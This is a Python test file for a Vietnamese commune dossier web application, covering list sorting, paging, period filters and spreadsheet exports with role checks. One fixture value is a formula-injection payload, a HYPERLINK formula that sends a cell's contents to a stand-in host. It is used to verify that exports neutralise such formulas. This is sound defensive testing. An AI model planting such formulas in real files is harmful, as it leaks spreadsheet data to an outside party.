"""The lists at scale, over HTTP: the dossier list sorted by its headers and
filtered by period, each list's export holding what the page shows for the
same criteria, the short lists paged with their count, and each export
allowed exactly to those who may see the page."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import datetime, timedelta

import pytest
from openpyxl import load_workbook

from events.base import acting_as
from tests.conftest import COMMUNE, log_in, vn

HX = {"HX-Request": "true"}
EVIL = '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")'


def client_for(app, name: str = "canbo"):  # type: ignore[no-untyped-def]
    client = app.test_client()
    assert log_in(client, name).status_code == 302
    return client


def receive(app, code: str, applicant: str, at: datetime, channel: str = "truc_tiep"  # type: ignore[no-untyped-def]
            ) -> None:
    svc = app.extensions["ledger"]
    with acting_as("canbo"):
        svc.record(svc.ledger.receive_dossier, COMMUNE, code, "2.000894", applicant, channel,
                   "toan_trinh" if channel == "truc_tuyen" else "", at)


@pytest.fixture
def listed(app):  # type: ignore[no-untyped-def]
    """60 dossiers over May to July 2023, online every third, one applicant
    named like a formula."""
    names = ("Nguyễn Văn An", "Đặng Thị Bích", "Ánh Hồng", "Trần Minh", EVIL)
    for n in range(60):
        receive(app, f"HS-{n:03d}", names[n % 5], vn(2023, 5, 2, 8) + timedelta(days=n * 1.5),
                "truc_tuyen" if n % 3 == 0 else "truc_tiep")
    return app


def page_codes(text: str) -> list[str]:
    return re.findall(r'<td><a href="/dossiers/[^"]+">([^<]+)</a></td>', text)


def all_pages(client, url: str) -> list[str]:  # type: ignore[no-untyped-def]
    """The codes of every page of the list, following its "Trang sau" links."""
    codes: list[str] = []
    while url:
        text = client.get(url, headers=HX).text
        codes += page_codes(text)
        found = re.search(r'<a rel="next" href="([^"]+)"', text)
        url = html.unescape(found.group(1)) if found else ""
    return codes


def sheet_rows(data: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [[c.value for c in row] for row in sheet.iter_rows()]


def test_the_dossier_export_holds_every_row_the_pages_show_for_the_same_filter(listed):
    clerk = client_for(listed)
    query = "channel=truc_tiep&period=2023-06&sort=applicant&order=asc"
    shown = all_pages(clerk, f"/dossiers?{query}")
    response = clerk.get(f"/dossiers/export.xlsx?{query}")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="ho-so-2023-06.xlsx"'
    assert response.headers["Cache-Control"] == "no-store"
    rows = sheet_rows(response.data)
    assert rows[0][:4] == ["Mã hồ sơ", "Mã thủ tục", "Thủ tục", "Người nộp"]
    assert [r[0] for r in rows[1:]] == shown and len(shown) > 10
    assert all(r[4] == "Trực tiếp" and r[5].month == 6 and r[5].year == 2023 for r in rows[1:])
    assert rows[1][2] == "Đăng ký khai sinh"
    first = listed.extensions["ledger"].ledger.dossier(COMMUNE, shown[0])
    assert rows[1][5] == first.received_at.astimezone(vn(2023, 1, 1).tzinfo).replace(tzinfo=None)


def test_a_formula_in_an_applicants_name_is_text_in_csv_and_xlsx(listed):
    clerk = client_for(listed)
    response = clerk.get("/dossiers/export.csv?q=hyperlink")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.data.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert len(read) == 13 and {r[3] for r in read[1:]} == {"'" + EVIL}
    cells = load_workbook(io.BytesIO(clerk.get("/dossiers/export.xlsx?q=hyperlink").data)).active
    assert cells["D2"].value == EVIL and cells["D2"].data_type == "s"


def test_a_header_sorts_the_list_and_says_which_way(listed):
    clerk = client_for(listed)
    plain = clerk.get("/dossiers?channel=truc_tuyen").text
    assert re.search(r'<th scope="col" aria-sort="descending">\s*<a class="sort"[^>]*>Tiếp nhận '
                     r'<span aria-hidden="true">▼</span>', plain)
    link = re.search(r'<a class="sort" href="([^"]+)"[^>]*>Người nộp', plain).group(1)
    assert html.unescape(link) == "/dossiers?channel=truc_tuyen&sort=applicant&order=asc"
    sorted_page = clerk.get(html.unescape(link), headers=HX).text
    assert 'aria-sort="ascending"' in sorted_page and "theo tên người nộp từ A đến Z" in sorted_page
    names = re.findall(r"</td>\n  <td>2\.000894</td>\n  <td>([^<]+)</td>", sorted_page)
    assert list(dict.fromkeys(html.unescape(n) for n in names)) == \
        [EVIL, "Ánh Hồng", "Đặng Thị Bích", "Nguyễn Văn An", "Trần Minh"]
    again = re.search(r'<a class="sort" href="([^"]+)"[^>]*>Người nộp', sorted_page).group(1)
    assert "order=desc" in again  # a second click turns the order round
    assert 'form="dossier-filters" name="sort" value="applicant"' in sorted_page
    export = re.search(r'href="([^"]+)"[^>]*>Xuất Excel', sorted_page).group(1)
    assert html.unescape(export) == \
        "/dossiers/export.xlsx?channel=truc_tuyen&sort=applicant&order=asc"


@pytest.mark.parametrize("sort", ["received", "code", "due", "applicant"])
def test_paging_under_each_sort_shows_every_dossier_once(listed, sort):
    clerk = client_for(listed)
    for order in ("asc", "desc"):
        codes = all_pages(clerk, f"/dossiers?sort={sort}&order={order}")
        assert len(codes) == len(set(codes)) == 60
        first = clerk.get(f"/dossiers?sort={sort}&order={order}").text
        assert "60 hồ sơ; đang xem 50 hồ sơ" in first


def test_the_period_filters_by_receipt_and_a_bad_one_is_said_and_changes_nothing(listed):
    clerk = client_for(listed)
    june = clerk.get("/dossiers?period=2023-06", headers=HX).text
    assert "tiếp nhận từ 01/06/2023 đến 30/06/2023" in june
    between = clerk.get("/dossiers?from=2023-06-01&to=2023-06-30", headers=HX).text
    assert page_codes(between) == page_codes(june) and 15 <= len(page_codes(june)) <= 25
    for bad, message in (("period=2023-13", "Kỳ không hợp lệ: «2023-13»"),
                         ("from=2023-07-01&to=2023-06-01", "Ngày bắt đầu của kỳ phải trước"),
                         ("from=hôm-qua", "Ngày «hôm-qua» không hợp lệ")):
        text = clerk.get(f"/dossiers?{bad}", headers=HX).text
        assert message in text and "60 hồ sơ" in text, bad
        refused = clerk.get(f"/dossiers/export.xlsx?{bad}")
        assert refused.status_code == 400 and message in refused.text


def test_the_catalogue_pages_with_its_count_and_exports_what_it_finds(app):
    svc = app.extensions["ledger"]
    with acting_as("system"):
        for n in range(60):
            svc.record(svc.ledger.list_procedure, COMMUNE, f"9.{n:03d}", f"Thủ tục thử {n}",
                       "Thử nghiệm", "xa", False, 5, 1000 * n, "")
    clerk = client_for(app)
    first = clerk.get("/procedures").text
    assert "62 thủ tục; đang xem 1–50." in first and "Trang 1/2" in first
    second = clerk.get("/procedures?page=2", headers=HX).text
    assert "đang xem 51–62." in second and "<html" not in second
    assert len(set(re.findall(r'<td><a href="/procedures/([^"/]+)">', first + second))) == 62
    found = clerk.get("/procedures?q=thu nghiem", headers=HX).text
    assert "60 thủ tục khớp với «thu nghiem»" in found
    export = re.search(r'href="([^"]+)"[^>]*>Xuất Excel', found).group(1)
    rows = sheet_rows(clerk.get(html.unescape(export)).data)
    assert rows[0][0] == "Mã thủ tục" and len(rows) == 61
    assert rows[1] == ["9.000", "Thủ tục thử 0", "Thử nghiệm", "UBND xã", "Không", 5, 0, None]
    assert [r[0] for r in rows[1:]] == [f"9.{n:03d}" for n in range(60)]


def test_the_users_list_counts_pages_and_exports_for_admins_only(app):
    admin = client_for(app, "admin")
    page = admin.get("/admin/users").text
    total = len(re.findall(r'<tr id="user-', page))
    assert f"{total} người dùng; đang xem 1–{total}." in page
    rows = sheet_rows(admin.get("/admin/users/export.xlsx").data)
    assert rows[0] == ["Tên đăng nhập", "Họ và tên", "Vai trò", "Phạm vi xem", "Trạng thái"]
    assert len(rows) == total + 1
    assert ["canbo", None, "Công chức Một cửa", COMMUNE, "Hoạt động"] in rows
    assert "other-clerk" not in {r[0] for r in rows}  # another commune's
    assert admin.get("/admin/users/export.csv").headers["Content-Disposition"].startswith(
        f'attachment; filename="nguoi-dung-{COMMUNE}-')
    for name in ("canbo", "leader", "auditor"):
        assert client_for(app, name).get("/admin/users/export.xlsx").status_code == 403


def test_the_book_exports_the_lines_it_prints(listed):
    leader = client_for(listed, "leader")
    printed = leader.get("/print/book?period=2023-Q2").text
    codes = re.findall(r'<tr data-code="([^"]+)">', printed)
    assert 'href="/print/book.xlsx?period=2023-Q2"' in printed
    response = leader.get("/print/book.xlsx?period=2023-Q2")
    assert response.headers["Content-Disposition"] == \
        'attachment; filename="so-theo-doi-ho-so-2023-Q2.xlsx"'
    rows = sheet_rows(response.data)
    assert rows[0][:2] == ["STT", "Mã hồ sơ"] and [r[1] for r in rows[1:]] == codes
    assert [r[0] for r in rows[1:]] == list(range(1, len(codes) + 1)) and len(codes) > 30
    first = re.search(r'<tr data-code="[^"]+">(.*?)</tr>', printed, re.S).group(1)
    cells = [re.sub(r"<small>.*|<[^>]+>", "", c).strip()
             for c in re.findall(r"<td[^>]*>(.*?)</td>", first, re.S)]
    assert cells[8] == rows[1][11] and cells[9] == rows[1][13]  # status, note
    assert cells[4] == f"{rows[1][6]:%d/%m/%Y %H:%M}" and cells[5] == f"{rows[1][7]:%d/%m/%Y}"
    bad = leader.get("/print/book.csv?period=2023-Q5")
    assert bad.status_code == 400 and "Kỳ không hợp lệ" in bad.text


@pytest.mark.parametrize("role", ["clerk", "officer", "leader", "auditor", "inspector", "admin"])
def test_everyone_who_sees_the_dossiers_may_export_them(listed, role):
    client = client_for(listed, role)
    assert client.get("/dossiers/export.csv").status_code == 200
    assert client.get("/print/book.csv?period=2023").status_code == 200
    assert client.get("/procedures/export.csv").status_code == 200


def test_another_communes_clerk_exports_only_their_own_dossiers(listed):
    other = client_for(listed, "other-clerk")
    read = list(csv.reader(io.StringIO(other.get("/dossiers/export.csv").data.decode("utf-8-sig"))))
    assert read == [read[0]]  # the headers alone


def test_a_sorted_page_and_its_export_are_the_same_on_postgresql(postgres_app):
    for n, name in enumerate(("Zoe", "Ánh", "Đức", "anh")):
        receive(postgres_app, f"PG-{n}", name, vn(2023, 6, 1 + n, 8))
    clerk = client_for(postgres_app)
    text = clerk.get("/dossiers?sort=applicant&order=asc", headers=HX).text
    assert page_codes(text) == ["PG-1", "PG-3", "PG-2", "PG-0"]
    due = clerk.get("/dossiers?sort=due&order=desc", headers=HX).text
    assert page_codes(due) == ["PG-3", "PG-2", "PG-1", "PG-0"]
    exported = sheet_rows(clerk.get("/dossiers/export.xlsx?sort=applicant&order=asc").data)
    assert [r[0] for r in exported[1:]] == page_codes(text)
